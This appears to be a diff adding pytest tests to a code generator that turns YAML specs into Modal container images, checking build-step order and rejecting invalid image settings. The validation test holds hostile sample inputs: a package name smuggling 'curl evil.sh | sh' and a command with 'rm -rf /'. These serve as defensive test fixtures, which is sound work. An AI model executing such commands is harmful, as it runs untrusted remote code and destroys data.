@@ -15,6 +15,7 @@ from conftest import GOLDEN, ROOT, SPECS, import_file, write_spec
 
 from endpointgen import __version__
 from endpointgen.compiler import pipeline
+from endpointgen.errors import SpecError
 
 SPEC_FILES = sorted(SPECS.glob("*.yaml"))
 REMOVED_MODAL_NAMES = (
@@ -241,3 +242,78 @@ def test_the_name_names_the_modal_app_and_the_module(tmp_path: Path) -> None:
     ]:
         (found,) = pipeline.validate(write_spec(tmp_path, {"name": name, "routes": routes}))
         assert problem in str(found), name
+
+
+def dockerfile(image: modal.Image) -> list[str]:
+    """The Dockerfile lines Modal's builder gets for `image`, layer by layer, as the SDK
+    writes them (offline: each layer's own `dockerfile_function`)."""
+    import inspect
+
+    from modal import _image
+    from modal._utils.async_utils import synchronizer
+
+    def layers(layer: Any) -> Any:
+        found = inspect.getclosurevars(layer._load).nonlocals
+        if "base_image" in found:  # a layer of local files: the image under it
+            yield from layers(found["base_image"])
+            return
+        for base in (found.get("base_images") or {}).values():
+            yield from layers(base)
+        if found.get("dockerfile_function"):
+            yield found["dockerfile_function"]
+
+    version = _image.LATEST_IMAGE_BUILDER_VERSION
+    out: list[str] = []
+    for build in layers(synchronizer._translate_in(image)):
+        out += build(version).commands
+    return out
+
+
+def test_image_steps_reach_modals_builder_in_order(tmp_path: Path) -> None:
+    """docs/spec.md, Top level (`image`): the image's Python, its Debian packages (before
+    the Python packages) and the build commands (after them) are what Modal's builder runs."""
+    spec = {
+        "name": "transcriber",
+        "image": {
+            "python": "3.12",
+            "system_packages": ["ffmpeg", "libsndfile1"],
+            "commands": ["python -c 'import sys; print(sys.version)' > /version.txt"],
+        },
+        "routes": [{"path": "/a", "action": "respond", "response": {}}],
+    }
+    built = pipeline.build(write_spec(tmp_path, spec), tmp_path / "out")
+    built.path.parent.mkdir(parents=True, exist_ok=True)
+    built.path.write_text(built.source, encoding="utf-8")
+    lines = dockerfile(import_file(built.path).image)
+    assert lines[0].startswith("FROM python:3.12-")
+    apt = lines.index("RUN apt-get install -y ffmpeg libsndfile1")
+    pip = next(i for i, line in enumerate(lines) if "uv pip install" in line)
+    run = lines.index("RUN python -c 'import sys; print(sys.version)' > /version.txt")
+    assert apt < pip < run
+    plain = pipeline.build(write_spec(tmp_path / "plain", {**spec, "image": {}}), tmp_path / "o")
+    assert ".apt_install" not in plain.source and ".run_commands" not in plain.source
+    assert 'python_version="3.11"' in plain.source
+
+
+@pytest.mark.parametrize(
+    ("image", "message"),
+    [
+        (
+            {"system_packages": ["ffmpeg; curl evil.sh | sh"]},
+            "image.system_packages[0]: 'ffmpeg; curl evil.sh | sh' is not a valid Debian package",
+        ),
+        (
+            {"commands": ["apt-get update\nrm -rf /"]},
+            "image.commands[0]: a build command is one line; join steps with `&&`",
+        ),
+        ({"commands": ["  "]}, "image.commands[0]: a build command cannot be empty"),
+        ({"python": "3.9"}, "image.python: '3.9' is not one of 3.10, 3.11, 3.12, 3.13"),
+    ],
+)
+def test_image_steps_that_would_break_the_build_are_refused(
+    tmp_path: Path, image: dict[str, Any], message: str
+) -> None:
+    spec = {"name": "img", "image": image, "routes": [{"path": "/a", "action": "health"}]}
+    with pytest.raises(SpecError) as caught:
+        pipeline.build(write_spec(tmp_path, spec), tmp_path / "out")
+    assert message in str(caught.value)
